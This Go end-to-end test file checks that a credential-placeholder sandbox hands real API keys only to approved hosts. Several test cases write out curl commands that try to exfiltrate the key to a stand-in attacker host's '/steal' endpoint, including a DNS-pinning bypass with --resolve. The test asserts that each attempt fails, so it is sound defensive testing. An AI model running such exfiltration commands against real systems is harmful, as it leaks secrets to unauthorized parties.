//go:build linux

package e2e

import (
	"net"
	"strings"
	"testing"

	"github.com/keygate/keygate/pkg/placeholder"
)

// TestWalkingSkeleton drives the whole data path once: a credential in a
// vault, a sandbox that sees only its placeholder, curl inside it reaching
// the approved API with the real key, and an unapproved host never seeing
// the key.
func TestWalkingSkeleton(t *testing.T) {
	w := world(t)
	a := startAgent(t, w)
	key := secret(t)

	a.mustKG("", "vault", "create", "v")
	a.mustKG(key+"\n", "cred", "add", "v", "api", "--env", "API_KEY", "--domain", w.APIHost())

	var outputs []string // everything the CLI and the sandboxes printed
	record := func(out, errOut string) {
		outputs = append(outputs, out, errOut)
	}

	t.Run("sandbox sees a placeholder", func(t *testing.T) {
		out, errOut, code := a.run([]string{"--vault", "v"}, `printf '%s' "$API_KEY"`)
		record(out, errOut)
		if code != 0 {
			t.Fatalf("exit %d: %s", code, errOut)
		}
		toks := placeholder.Find(out)
		if len(toks) != 1 || !toks[0].Valid || out != toks[0].ID {
			t.Fatalf("API_KEY = %q, want a bare placeholder", out)
		}
	})

	t.Run("approved host receives the real key", func(t *testing.T) {
		script := `curl -sS -m 10 -o /dev/null -w '%{http_code}' https://` + w.APIHost() +
			`/v1/ping -H "Authorization: Bearer $API_KEY"`
		out, errOut, code := a.run([]string{"--vault", "v"}, script)
		record(out, errOut)
		if code != 0 || out != "200" {
			t.Fatalf("curl: exit %d, status %q, stderr %s\nagent log:\n%s", code, out, errOut, a.log.String())
		}
		reqs := w.Requests(w.APIHost())
		if len(reqs) == 0 {
			t.Fatal("API received no request")
		}
		if got := reqs[len(reqs)-1].Header.Get("Authorization"); got != "Bearer "+key {
			t.Fatalf("API received Authorization %q, want the real key", redact(got, key))
		}
	})

	t.Run("unapproved host never receives the key", func(t *testing.T) {
		script := `curl -sS -m 10 -w '\n%{http_code}' https://` + w.AttackerHost() +
			`/steal -H "Authorization: Bearer $API_KEY"`
		out, errOut, code := a.run([]string{"--vault", "v", "--allow", w.AttackerHost()}, script)
		record(out, errOut)
		if code != 0 || !strings.HasSuffix(out, "\n403") || !strings.Contains(out, "placeholder_unapproved_host") {
			t.Fatalf("curl: exit %d, output %q, stderr %s", code, out, errOut)
		}
		if n := len(w.Requests(w.AttackerHost())); n != 0 {
			t.Fatalf("attacker host received %d requests; want none forwarded", n)
		}
	})

	t.Run("unlisted host does not even resolve", func(t *testing.T) {
		before := len(w.DNSQueries())
		script := `curl -sS -m 10 https://` + w.AttackerHost() + `/steal -H "Authorization: Bearer $API_KEY"`
		out, errOut, code := a.run([]string{"--vault", "v"}, script)
		record(out, errOut)
		if code != 6 { // curl: could not resolve host
			t.Fatalf("curl: exit %d, want 6; stderr %s", code, errOut)
		}
		for _, q := range w.DNSQueries()[before:] {
			if strings.Contains(q.Name, "evil") {
				t.Fatalf("world DNS saw a query for %s; unlisted names must not be forwarded", q.Name)
			}
		}
	})

	t.Run("approved name dialled at the attacker's address is refused", func(t *testing.T) {
		attacker := net.JoinHostPort(w.Attacker.String(), "443")
		before := len(w.Requests(w.AttackerHost()))
		script := `curl -sS -m 10 -w '\n%{http_code}' --resolve ` + w.APIHost() + `:443:` + w.Attacker.String() +
			` https://` + w.APIHost() + `/x -H "Authorization: Bearer $API_KEY"`
		out, errOut, code := a.run([]string{"--vault", "v"}, script)
		record(out, errOut)
		if code != 0 || !strings.Contains(out, "destination_not_pinned") {
			t.Fatalf("curl to %s: exit %d, output %q, stderr %s", attacker, code, out, errOut)
		}
		if n := len(w.Requests(w.AttackerHost())) - before; n != 0 {
			t.Fatalf("attacker received %d requests", n)
		}
	})

	// Stop the agent so its whole log is in, then search everything the
	// run produced for the key.
	a.stop()
	outputs = append(outputs, a.log.String())
	for i, o := range outputs {
		if strings.Contains(o, key) {
			t.Errorf("output %d contains the secret: %s", i, redact(o, key))
		}
	}
	if attackerSaw(w, key) {
		t.Error("the attacker host received the secret")
	}
	assertNoResidue(t, a)
}
